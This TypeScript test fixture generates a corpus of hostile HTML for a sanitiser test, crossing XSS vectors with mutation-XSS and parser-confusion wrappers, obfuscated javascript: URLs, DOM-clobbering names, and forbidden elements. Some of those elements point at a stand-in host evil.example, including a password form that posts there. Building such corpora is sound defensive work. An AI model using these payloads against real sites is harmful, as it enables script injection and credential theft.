/**
 * Hostile HTML by family. Each way of hiding from a sanitiser is combined with each payload; sanitiser.test.ts counts
 * only those that do harm without the sanitiser. `CALL` is replaced by the call that the test listens for.
 */
export const CALL = 'CALL';

/** Payloads that run by themselves in a page. */
const VECTORS: readonly string[] = [
  `<img src=x onerror=${CALL}>`,
  `<img/src=x/ONERROR="${CALL}">`,
  `<img src=x\nonerror\n=\n'${CALL}'>`,
  `<image src=x onerror=${CALL}>`,
  `<picture><source srcset=x><img src=x onerror=${CALL}></picture>`,
  `<video src=x onerror=${CALL}></video>`,
  `<svg onload=${CALL}></svg>`,
  `<svg><image href=x onerror=${CALL}></image></svg>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<style onload=${CALL}></style>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<img src=x onerror=&#${'C'.codePointAt(0)};ALL>`,
];

/** What one parser reads as text, and another as markup after a quoted end tag. */
const RAW = 'noembed xmp textarea noframes title style script iframe noscript'.split(' ');

/** Wrappers that one parser may read as text, comment or another namespace, and another may not. */
const WRAPPERS: Readonly<Record<string, readonly ((vector: string) => string)[]>> = {
  'in the open': [
    (v) => v,
    (v) => `<a href="https://a.example">${v}</a>`,
    (v) => `<ul><li>${v}</ul>`,
    (v) => `<p>Tekst${'<b>'.repeat(12)}</p>${v}`,
  ],
  'SVG and MathML namespaces': [
    (v) => `<svg><foreignObject>${v}</foreignObject></svg>`,
    (v) => `<svg><desc>${v}</desc></svg>`,
    (v) => `<svg></p>${v}`,
    (v) => `<math><mtext>${v}</mtext></math>`,
    (v) => `<math><annotation-xml encoding="text/html">${v}</annotation-xml></math>`,
    (v) => `<math><mtext><table><mglyph>${v}`,
    (v) => `<math></p><svg><desc>${v}`,
    (v) => `<form><math><mtext></form><form><mglyph><style></math>${v}`,
  ],
  'mutation: style and title read twice': [
    (v) => `<svg></p><style><a id="</style>${v}">`,
    (v) => `<math><mtext><mglyph><style></math>${v}</style>`,
    (v) => `<svg><desc><style><a id="</style>${v}">`,
    (v) => `<svg><style><![CDATA[</style>${v}]]>`,
    (v) => `<math><mtext><style><!--</style>${v}--></style>`,
  ],
  'raw text: noscript, xmp, noembed, textarea …': RAW.map(
    (tag) => (v) => `<${tag}><p title="</${tag}>${v}">`,
  ),
  'comments, declarations and CDATA': [
    (v) => `<!-->${v}-->`,
    (v) => `<!-- --!>${v}-->`,
    (v) => `<!--<!-- -->${v}-->`,
    (v) => `<?php >${v} ?>`,
    (v) => `<![CDATA[>${v}]]>`,
    (v) => `</ >${v}`,
    (v) => `<svg><![CDATA[]]></svg>${v}`,
  ],
  'tables, forms and formatting put elsewhere': [
    (v) => `<table><tr>${v}<td>x</td></tr></table>`,
    (v) => `<table><colgroup><col>${v}`,
    (v) => `<b><p></b>${v}</p>`,
    (v) => `<a><table><a>${v}</table></a>`,
    (v) => `<form><div></form>${v}</div>`,
    (v) => `<button><p>${v}</button>`,
  ],
  'custom elements, depth and odd names': [
    (v) => `<x-lot is="x-lot">${v}</x-lot>`,
    (v) => `<constructor>${v}</constructor>`,
    (v) => `<__proto__>${v}`,
    (v) => `<a:b:c>${v}</a:b:c>`,
    (v) => `<unknown\u00a0x>${v}`,
    (v) => `${'<div>'.repeat(505)}${v}`,
    (v) => `${'<span>'.repeat(120)}${v}${'</span>'.repeat(60)}`,
    (v) => `\ufeff${v}`,
    (v) => `\u0000<p\u0000>${v}`,
  ],
};

/** Addresses that run script, and how they are dressed up. */
const SCRIPT_ADDRESSES: readonly string[] = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java&#x0d;script:${CALL}`,
  `j&#97;vascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `java&NewLine;script:${CALL}`,
  `javascript://a.example/%0a${CALL}`,
  `javascript:/*https://a.example*/${CALL}`,
];

const LINK_CARRIERS: readonly ((address: string) => string)[] = [
  (a) => `<a href="${a}">x</a>`,
  (a) => `<a href="https://a.example" href2 HREF="x"></a><a HREF="${a}">x</a>`,
  (a) => `<svg><a xlink:href="${a}"><text y=20>x</text></a></svg>`,
  (a) => `<form action="${a}"><button>x</button></form>`,
  (a) => `<form><button formaction="${a}">x</button></form>`,
  (a) => `<iframe src="${a}"></iframe>`,
  (a) => `<math href="${a}"><mtext>x</mtext></math>`,
  (a) => `<map><area href="${a}"></map>`,
];

const OTHER_ADDRESSES: readonly string[] = [
  'data:text/html,<script>1</script>',
  'vbscript:msgbox(1)',
  'blob:https://a.example/1',
  'file:///etc/passwd',
  '//evil.example/',
  String.raw`\\evil.example`,
  '/admin',
  '#rent',
  'https://bank.example@evil.example/',
  'https:evil.example',
  'intent://x#Intent;end',
  'mailto:a@b.example?bcc=c@d.example',
  'tel:*%2306%23',
];

const HANDLERS = [
  'onclick',
  'onerror',
  'onbeforetoggle',
  'onpointerrawupdate',
  'onscrollsnapchange',
];

const FOREIGN_ATTRIBUTES: readonly string[] = [
  'style="position:fixed;inset:0"',
  'class=page',
  'id=rent',
  'is=x-evil',
  'popover',
  'autofocus',
  'aria-hidden=true',
  'data-x=1',
  'background=https://evil.example/p.png',
  'ping=https://evil.example/',
  'xlink:href=https://evil.example/',
];

const CLOBBERED =
  'body cookie attributes childNodes parentNode nodeName innerHTML ownerDocument getAttribute removeChild __proto__ constructor hasOwnProperty harmed trustedTypes'.split(
    ' ',
  );

const FORBIDDEN_ELEMENTS: readonly string[] = [
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<form action=https://evil.example/><input name=password type=password></form>',
  '<input type=image src=https://evil.example/ >',
  '<embed src=https://evil.example/>',
  '<object data=https://evil.example/></object>',
  '<iframe src=https://evil.example/ sandbox></iframe>',
  '<template shadowrootmode=open><p>x</p></template>',
  '<slot name=x>x</slot>',
  '<dialog open>x</dialog>',
  '<video poster=https://evil.example/></video>',
  '<svg><use href="data:image/svg+xml,x#x"></use></svg>',
  '<svg><animate attributeName=href values=javascript:1></animate></svg>',
  '<math><maction actiontype=statusline xlink:href=javascript:1>x</maction></math>',
  '<script type=speculationrules>{}</script>',
  '<script type="application/ld+json">{}</script>',
  '<plaintext>x',
  '<textarea>x</textarea>',
  '<button>x</button>',
  '<x-evil>x</x-evil>',
  '<permission type=geolocation>x</permission>',
];

const crossed = <A, B>(
  as: readonly A[],
  bs: readonly B[],
  join: (a: A, b: B) => string,
): string[] => as.flatMap((a) => bs.map((b) => join(a, b)));

/** Family -> payloads. */
export const CORPUS: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    Object.entries(WRAPPERS).map(([family, wrappers]) => [
      family,
      crossed(wrappers, VECTORS, (wrap, vector) => wrap(vector)),
    ]),
  ),
  'script addresses': crossed(LINK_CARRIERS, SCRIPT_ADDRESSES, (carry, address) => carry(address)),
  'other addresses': OTHER_ADDRESSES.map((address) => `<a href="${address}">x</a>`),
  'attributes on allowed elements': [
    ...HANDLERS.map((name) => `<p ${name}="${CALL}">x</p>`),
    ...crossed(
      ['p', 'a', 'table'],
      FOREIGN_ATTRIBUTES,
      (tag, attribute) => `<${tag} ${attribute}>x</${tag}>`,
    ),
  ],
  'DOM clobbering': crossed(
    [
      (name: string) => `<a id="${name}">x</a>`,
      (name: string) => `<form id=f><input name="${name}"></form>`,
      (name: string) => `<img name="${name}">`,
      (name: string) =>
        `<form name="${name}"><a id="${name}" name=x href=https://evil.example>x</a></form>`,
      (name: string) => `<p name="${name}" id="user-content-${name}">x</p>`,
    ],
    CLOBBERED,
    (carry, name) => carry(name),
  ),
  'forbidden elements': crossed(
    [(html: string) => html, (html: string) => `<p>Tekst ${html} tekst</p>`],
    FORBIDDEN_ELEMENTS,
    (carry, html) => carry(html),
  ),
};
